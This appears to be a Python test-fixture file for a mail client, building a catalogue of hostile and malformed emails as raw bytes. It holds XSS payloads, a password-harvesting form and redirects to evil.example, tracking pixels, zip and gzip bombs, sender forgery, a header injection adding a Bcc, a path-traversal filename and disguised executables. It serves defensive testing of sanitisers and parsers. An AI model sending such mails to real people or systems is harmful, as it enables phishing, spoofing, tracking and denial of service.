"""Mails made to do harm, or broken past repair, as files of bytes: name → the mail."""

import base64
import gzip
import io
import zipfile

HEAD = b"From: maria@example.org\r\nTo: help@lipa.example\r\nMessage-ID: <hostile@example.org>\r\nSubject: Hello\r\n"
HTML = HEAD + b"Content-Type: text/html; charset=utf-8\r\n\r\n"


def with_html(html: str) -> bytes:
    return HTML + html.encode()


def with_file(name: str, content: bytes, declared: str = "application/octet-stream") -> bytes:
    return (
        HEAD
        + b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nHello\r\n--x\r\n"
        + f'Content-Type: {declared}\r\nContent-Disposition: attachment; filename="{name}"\r\n'.encode()
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(content)
        + b"\r\n--x--\r\n"
    )


def zip_bomb() -> bytes:
    """A thousand to one: ten megabytes of zeros in ten kilobytes."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("zeros", b"\0" * 10_000_000)
    return packed.getvalue()


def nested(depth: int, kind: str = "multipart/mixed") -> bytes:
    levels = b"".join(
        f"Content-Type: {kind}; boundary=b{level}\r\n\r\n--b{level}\r\n".encode() for level in range(depth)
    )
    return HEAD + levels + b"\r\nHello\r\n"


HOSTILE: dict[str, bytes] = {
    # What would run, load or pose
    "script": with_html("<p>Hello</p><script>alert(1)</script>"),
    "handlers": with_html(
        '<p onclick="alert(1)">Hello</p><img src=x onerror=alert(1)><body onload=alert(1)>'
    ),
    "javascript link": with_html("<p>Hello</p><a href=' \x01javascript:alert(1)'>open</a>"),
    "data link": with_html("<p>Hello</p><a href='data:text/html,<script>alert(1)</script>'>open</a>"),
    "svg": with_html("<p>Hello</p><svg onload=alert(1)><script>alert(1)</script></svg>"),
    "mutation": with_html(
        "<p>Hello</p><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "style": with_html(
        "<p style='position:fixed;top:0;left:0;background:url(https://t.example/x)'>Hello</p>"
        "<style>@import url(https://t.example/y); body{display:none}</style>"
    ),
    "form": with_html(
        "<p>Hello</p><form action=https://evil.example><input name=password><button>Sign in</button></form>"
    ),
    "iframe": with_html(
        "<p>Hello</p><iframe src=https://evil.example></iframe><object data=x></object><embed src=x>"
    ),
    "meta refresh": with_html(
        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example><p>Hello</p>"
    ),
    "tracking pixel": with_html("<p>Hello</p><img src='https://t.example/p.gif?who=1' width=1 height=1>"),
    "tracking by srcset": with_html(
        "<p>Hello</p><img srcset='https://t.example/p.gif 1x'><picture><source srcset=https://t.example/q></picture>"
    ),
    "tracking by background": with_html(
        "<table background=https://t.example/p><tr><td background=//t.example/q>Hello</table>"
    ),
    "our own classes": with_html("<p class='mail-link-host button danger' id='content'>Hello</p>"),
    "lookalike link": with_html("<p>Hello</p><a href='https://аррӏе.com/'>https://apple.com/</a>"),
    # Bombs
    "deep": nested(600),
    "deep digests": nested(200, "multipart/digest"),
    "many lines in many boundaries": nested(28) + b"x\n" * 400_000,
    "many parts": HEAD
    + b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
    + b"--x\r\n\r\n" * 20_000
    + b"Hello",
    "many files": HEAD
    + b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
    + b"--x\r\nContent-Disposition: attachment; filename=a\r\n\r\nHello\r\n" * 500,
    "mails in mails": HEAD + b"Content-Type: message/rfc822\r\n\r\n" * 500 + b"Hello",
    "long header": HEAD + b"X-Long: " + b"a" * 1_000_000 + b"\r\n\r\nHello",
    "many headers": HEAD + b"X-Many: 1\r\n" * 20_000 + b"\r\nHello",
    "tags without end": with_html("<p>Hello</p>" + "<div>" * 100_000),
    "fonts without end": with_html(
        "<p>Hello</p>" + "".join(f"<font color={n}>" for n in range(900)) + "<p>" * 3000
    ),
    "ampersands": with_html("<p>Hello</p>" + "&" * 900_000),
    "zip bomb": with_file("photos.zip", zip_bomb(), "application/zip"),
    "gzip bomb": with_file("report.html.gz", gzip.compress(b"\0" * 10_000_000)),
    # Forged and broken
    "two senders": b"From: director@lipa.example\r\n" + HEAD + b"\r\nHello",
    "two addresses in one sender": HEAD.replace(
        b"From: maria@example.org", b"From: maria@example.org, director@lipa.example"
    )
    + b"\r\nHello",
    "address in a name": HEAD.replace(
        b"From: maria@example.org", b'From: "director@lipa.example" <maria@example.org>'
    )
    + b"\r\nHello",
    "address in an encoded name": HEAD.replace(
        b"From: maria@example.org", b"From: =?utf-8?q?director=40lipa=2Eexample=2C?= <maria@example.org>"
    )
    + b"\r\nHello",
    "NULs": HEAD.replace(b"Hello", b"Hel\0lo") + b"\r\nHel\0lo\0",
    "surrogates": HEAD + b"Content-Type: text/plain; charset=utf-8\r\n\r\nHello \xed\xa0\x80 \xff\xfe",
    "unknown alphabet": HEAD + b"Content-Type: text/plain; charset=x-\0-klingon\r\n\r\nHello",
    "a program for an alphabet": HEAD + b"Content-Type: text/plain; charset=punycode\r\n\r\nHello",
    "broken base64": HEAD + b"Content-Transfer-Encoding: base64\r\n\r\nSGVsbG8=\xff\xff=!",
    "boundary never closed": HEAD + b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nHello",
    "no boundary": HEAD + b"Content-Type: multipart/mixed\r\n\r\nHello",
    "broken parameters": HEAD
    + b"Content-Type: text/plain; charset*=8'\"'x%FF; name*0*='%C4; name*1=x\r\n\r\nHello",
    "header injection": HEAD.replace(
        b"Subject: Hello", b"Subject: =?utf-8?q?Hello=0D=0ABcc:_all=40example=2Eorg?="
    )
    + b"\r\nHello",
    "program posing as a picture": with_file("cat.png", b"MZ\x90\x00" + b"\0" * 100, "image/png"),
    "page posing as a picture": with_file("cat.png", b"<html><script>alert(1)</script>", "image/png"),
    "name that climbs": with_file("../../../../etc/passwd", b"Hello"),
    "name that turns around": with_file(
        "cat\xe2\x80\xaegpj.exe".encode("latin-1").decode(), b"MZ\x90\x00" + b"\0" * 50
    ),
    "S/MIME": HEAD
    + b"Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqG",
    "PGP": HEAD
    + b"Content-Type: multipart/encrypted; boundary=x\r\n\r\n--x\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
    + b"Version: 1\r\n--x\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n--x--\r\n",
    "no sender": b"Subject: Hello\r\n\r\nHello",
    "nothing": b"",
    "only bytes": bytes(range(256)) * 100,
}
